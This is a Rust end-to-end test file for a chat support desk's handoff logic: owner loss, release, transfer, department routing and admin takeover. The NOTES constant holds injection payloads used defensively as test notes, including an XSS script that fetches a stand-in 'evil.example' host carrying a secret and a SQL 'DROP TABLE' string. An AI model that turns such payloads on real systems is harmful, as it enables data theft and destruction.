//! Conversations that change hands: lost, put back, passed on, taken, watched.

use e2e::{Seat, Tenant, Visitor};
use protocol::desk::QueueRow;
use protocol::problem::Code;
use protocol::room::RoomUp;
use protocol::routing::Routing;
use protocol::{Act, Delivery, Event, Intent, Kind, RoutingMode, Stage, Status};

#[tokio::test]
#[ignore = "needs a server: cargo xtask test"]
async fn what_a_vanished_owner_had_goes_before_all_others_and_the_next_sees_why() {
    let tenant = Tenant::new().await;
    let (mut ann, mut ben) = (tenant.ann_at_desk().await, tenant.ben_at_desk().await);
    let visitor = tenant.visitor().await;
    let mut screen = visitor.screen().await;
    visitor.ask().await;
    let row = ben.picks_up(&visitor).await;
    let others = [tenant.asking().await, tenant.asking().await];
    ann.waiting(&others[0]).await;
    screen.told(Event::AgentJoined).await;
    let Seat { agent: ben, desk } = ben;
    drop(desk);
    ann.sees(ben.id(), Status::Offline).await;
    let back = ann.row(&visitor, "returned", |row| row.returned).await;
    assert_eq!((back.stage, back.epoch > row.epoch, &back.agent), (Stage::Waiting, true, &row.agent));
    assert_eq!(screen.told(Event::AgentLost).await.agent, row.agent);
    screen.ahead(0).await;
    let line = ann.queue("?stage=waiting").await.items;
    assert_eq!(line[0].handoff, row.handoff, "the next agent sees it first, and why");
    ben.resolve(&row).await.refused(Code::NotOwner);
    ann.claim(&back).await.row();
    screen
        .until("somebody else", |thread| {
            (thread.events().iter().filter(|it| **it == Event::AgentJoined).count() == 2).then_some(())
        })
        .await;
    let decisions = ann.decisions(&row.handoff).await;
    let returned = decisions.iter().find(|decision| decision.act == Act::Returned).expect("a decision");
    assert_eq!(returned.agent, row.agent);
    assert!(tenant.vitals().await.tally.returned >= 1);
}

#[tokio::test]
#[ignore = "needs a server: cargo xtask test"]
async fn an_owner_who_is_back_within_the_grace_has_lost_nothing() {
    let routing = Routing { mode: RoutingMode::RoundRobin, delivery: Delivery::Assign, ..Routing::default() };
    let tenant = Tenant::routed(routing).await;
    let mut ann = tenant.ann_at_desk().await;
    ann.puts(&ann.id().clone(), &[]).await;
    let mut ben = tenant.ben_at_desk().await;
    let visitor = tenant.asking().await;
    let row = ann.owned(&visitor, ben.id()).await;
    let before = visitor.transcript().await;
    let _cem = tenant.cem_at_desk().await;
    for _ in 0..3 {
        ben = ben.reload().await;
    }
    let now = ann.handoff(&row.handoff).await;
    assert_eq!((now.epoch, now.returned, now.stage), (row.epoch, false, Stage::Active));
    assert_eq!(visitor.transcript().await, before);
    ben.resolve(&row).await.row();
}

#[tokio::test]
#[ignore = "needs a server: cargo xtask test"]
async fn what_is_put_back_waits_in_its_old_place_for_somebody_else() {
    let routing = Routing { mode: RoutingMode::RoundRobin, delivery: Delivery::Assign, ..Routing::default() };
    let tenant = Tenant::with(|asked| {
        asked.routing = routing;
        asked.agents.iter_mut().for_each(|agent| agent.capacity = Some(1));
    })
    .await;
    let mut ann = tenant.ann_at_desk().await;
    ann.puts(&ann.id().clone(), &[]).await;
    let ben = tenant.ben_at_desk().await;
    let (first, second) = (tenant.visitor().await, tenant.visitor().await);
    let mut screen = first.screen().await;
    first.ask().await;
    let row = ann.owned(&first, ben.id()).await;
    second.ask().await;
    ann.waiting(&second).await;
    ben.release(&row).await.row();
    // Ben counts as one who has declined it; the next in line is his at once.
    ann.owned(&second, ben.id()).await;
    let back = ann.row(&first, "back", |row| row.stage == Stage::Waiting).await;
    assert_eq!((back.returned, back.declined.as_slice()), (false, std::slice::from_ref(ben.id())));
    assert_eq!((back.asked_at, back.queued_at > Some(back.asked_at)), (row.asked_at, true));
    screen.told(Event::AgentLeft).await;
    // Whoever comes has not.
    let cem = tenant.cem_at_desk().await;
    let again = ann.owned(&first, cem.id()).await;
    assert!(again.declined.is_empty() || again.declined == [ben.id().clone()], "{again:?}");
    screen.stage(Stage::Active).await;
}

/// What must not reach a visitor, and what nobody may run or render.
const NOTES: [&str; 4] = [
    "He is the one who returns everything; secret-7f3a",
    "<img src=x onerror=alert('secret-7f3a')><script>fetch('//evil.example/secret-7f3a')</script>",
    "'; DROP TABLE decision; -- secret-7f3a \u{202e}txet desrever \u{0000}\u{1b}[2J {{7*7}} ${7*7}",
    "{\"t\":\"state\",\"state\":{\"desk_open\":false},\"x\":\"secret-7f3a\"}\n\nevent: evil\ndata: secret-7f3a",
];

#[tokio::test]
#[ignore = "needs a server: cargo xtask test"]
async fn a_note_goes_along_to_the_next_agent_and_never_to_the_visitor() {
    for note in NOTES {
        let tenant = Tenant::new().await;
        let (mut ben, cem) = (tenant.ben_at_desk().await, tenant.cem_at_desk().await);
        let visitor = tenant.visitor().await;
        let mut screen = visitor.screen().await;
        visitor.ask().await;
        let row = ben.picks_up(&visitor).await;
        let passed = ben.transfer(&row, cem.id(), Some(note)).await.row();
        let kept = passed.note.clone().expect("a note");
        assert_eq!((kept.text.as_str(), &kept.by.id), (note, ben.id()));
        assert_eq!((passed.stage, passed.agent.as_ref().map(|it| &it.id)), (Stage::Active, Some(cem.id())));
        // The next agent has it, byte for byte, by every way.
        let seen = ben.row(&visitor, "with a note", |row| row.note.is_some()).await;
        assert_eq!(seen.note.as_ref(), Some(&kept));
        assert_eq!(cem.handoff(&row.handoff).await.note, Some(kept.clone()));
        let decisions = cem.decisions(&row.handoff).await;
        let decision = decisions.iter().find(|decision| decision.act == Act::Transferred).expect("a decision");
        assert_eq!(decision.note.as_ref().map(|text| text.as_str()), Some(note));
        cem.send(visitor.conversation(), "I take over from Ben").await;
        screen.reads(Kind::Agent, "I take over from Ben").await;
        assert!(screen.picture.events().contains(&Event::Transferred), "{:?}", screen.picture.events());
        let polled = visitor.poll(0).await.text;
        let again = visitor.ask().await;
        let all = format!("{:?} {polled} {again:?}", screen.seen());
        assert!(!all.contains("7f3a") && !all.contains("note"), "{all}");
        // It goes into the history with the rest.
        let closed = cem.resolve(&passed).await.row();
        crate::main_path::in_history(&cem.agent, &closed.handoff).await;
        assert_eq!(cem.decisions(&row.handoff).await[..decisions.len()], decisions);
        assert!(!visitor.poll(0).await.text.contains("7f3a"));
    }
}

#[tokio::test]
#[ignore = "needs a server: cargo xtask test"]
async fn what_is_passed_to_a_department_is_routed_there_and_keeps_its_note() {
    let tenant = Tenant::new().await;
    let (mut ann, mut ben) = (tenant.ann_at_desk().await, tenant.ben_at_desk().await);
    let cem = tenant.cem_at_desk().await;
    let sales = ann.add_department("Sales").await;
    ann.puts(cem.id(), &[&sales]).await;
    let routing = Routing { mode: RoutingMode::LeastLoaded, delivery: Delivery::Assign, ..Routing::default() };
    let change = protocol::routing::ChangeDepartment { routing: Some(routing), name: None };
    ann.change_department(&sales, &change).await.ok::<protocol::routing::DepartmentDetails>();
    // Cem is not there for a moment: it waits in the new line with its note.
    cem.intend(Intent::Break).await;
    let visitor = tenant.visitor().await;
    let mut screen = visitor.screen().await;
    visitor.ask().await;
    let row = ben.picks_up(&visitor).await;
    let passed = ben.transfer_to_department(&row, &sales, Some("Wants three")).await.row();
    assert_eq!((passed.stage, passed.department.as_ref()), (Stage::Waiting, Some(&sales)));
    assert!(passed.queued_at > Some(passed.asked_at) && !passed.returned, "{passed:?}");
    screen.told(Event::Transferred).await;
    screen.ahead(0).await;
    cem.intend(Intent::Available).await;
    let routed = ann.owned(&visitor, cem.id()).await;
    assert_eq!(routed.note.map(|note| String::from(note.text)).as_deref(), Some("Wants three"));
    screen.stage(Stage::Active).await;
}

#[tokio::test]
#[ignore = "needs a server: cargo xtask test"]
async fn an_admin_watches_without_being_seen_and_takes_over() {
    let tenant = Tenant::new().await;
    let (ann, mut ben) = (tenant.ann_at_desk().await, tenant.ben_at_desk().await);
    let visitor = tenant.visitor().await;
    let mut screen = visitor.screen().await;
    visitor.ask().await;
    let row = ben.picks_up(&visitor).await;
    screen.told(Event::AgentJoined).await;
    let mut room = e2e::Screen::of(ben.room(visitor.conversation(), 0).await);
    let known = (screen.seen().len(), row.epoch);
    let mut watch = e2e::Screen::of(ann.room(visitor.conversation(), 0).await);
    watch.told(Event::AgentJoined).await;
    // What a watcher does by mistake reaches nobody.
    watch.say(&RoomUp::Typing { on: true });
    let id = watch.send("Not for you");
    while watch.error(Code::NotOwner).await.as_ref() != Some(&id) {}
    visitor.send("Anybody?").await;
    for view in [&mut screen, &mut room, &mut watch] {
        view.reads(Kind::Visitor, "Anybody?").await;
    }
    let frames = &screen.seen()[known.0..];
    assert!(frames.iter().all(|frame| !frame.contains("Ann") && !frame.contains("typing")), "{frames:#?}");
    assert!(room.seen().iter().all(|frame| !frame.contains("Ann") && !frame.contains("typing")), "{:#?}", room.seen());
    assert_eq!(ann.handoff(&row.handoff).await.epoch, known.1, "watching is not a change of hands");
    watch.close().await;

    let taken = ann.take_over(&row).await.row();
    assert_eq!(taken.agent.as_ref().map(|it| &it.id), Some(ann.id()));
    let twice = |thread: &e2e::Thread| {
        let joined = thread.messages.iter().rev().find(|it| it.event == Some(Event::AgentJoined))?.agent.clone()?;
        (joined.name.as_str() == "Ann").then_some(())
    };
    screen.until("Ann has joined", twice).await;
    ben.resolve(&row).await.refused(Code::NotOwner);
    ben.resolve(&taken).await.refused(Code::NotOwner);
    assert_eq!((ben.card(ben.id()).await.load, ben.card(ann.id()).await.load), (0, 1));
    ann.send(visitor.conversation(), "I am Ann").await;
    screen.reads(Kind::Agent, "I am Ann").await;
}

#[tokio::test]
#[ignore = "needs a server: cargo xtask test"]
async fn an_admin_gives_what_waits_and_what_is_in_hand_to_somebody_else() {
    let tenant = Tenant::new().await;
    let (ann, mut ben) = (tenant.ann_at_desk().await, tenant.ben_at_desk().await);
    let cem = tenant.cem_at_desk().await;
    let visitor = tenant.visitor().await;
    let mut screen = visitor.screen().await;
    visitor.ask().await;
    let row = ben.waiting(&visitor).await;
    let first = ann.assign(&row, cem.id()).await.row();
    let second = ann.assign(&first, ben.id()).await.row();
    assert_eq!(owner_of(&second), Some("Ben"));
    cem.resolve(&first).await.refused(Code::NotOwner);
    let joined = |thread: &e2e::Thread| {
        let names = thread.messages.iter().filter(|it| it.event == Some(Event::AgentJoined));
        let names: Vec<_> = names.filter_map(|it| Some(it.agent.as_ref()?.name.as_str().to_owned())).collect();
        (names == ["Cem", "Ben"]).then_some(())
    };
    screen.until("both have joined", joined).await;
    assert_eq!((loads(&ben, [cem.id(), ben.id()])).await, [0, 1]);
    let acts: Vec<_> = ann.decisions(&row.handoff).await;
    let assigned: Vec<_> = acts.iter().filter(|it| it.act == Act::Assigned).collect();
    assert!(assigned.len() == 2 && assigned.iter().all(|it| it.by.as_ref().is_some_and(|by| by.id == *ann.id())));
}

fn owner_of(row: &QueueRow) -> Option<&str> {
    row.agent.as_ref().map(|agent| agent.name.as_str())
}

async fn loads<const N: usize>(seat: &Seat, agents: [&protocol::AgentId; N]) -> [u32; N] {
    let mut loads = [0; N];
    for (load, agent) in loads.iter_mut().zip(agents) {
        *load = seat.card(agent).await.load;
    }
    loads
}

#[tokio::test]
#[ignore = "needs a server: cargo xtask test"]
async fn an_old_owner_writes_nothing_any_more() {
    let tenant = Tenant::new().await;
    let (mut ben, cem) = (tenant.ben_at_desk().await, tenant.cem_at_desk().await);
    let visitor: Visitor = tenant.asking().await;
    let row = ben.picks_up(&visitor).await;
    let mut room = ben.room(visitor.conversation(), 0).await;
    room.welcome().await;
    ben.transfer(&row, cem.id(), None).await.row();
    cem.send(visitor.conversation(), "Hello, I am Cem").await;
    room.send("I am still here");
    room.error(Code::NotOwner).await;
    assert!(
        visitor.transcript().await.iter().all(|it| it.body.as_ref().is_none_or(|it| it.as_str() != "I am still here"))
    );
}
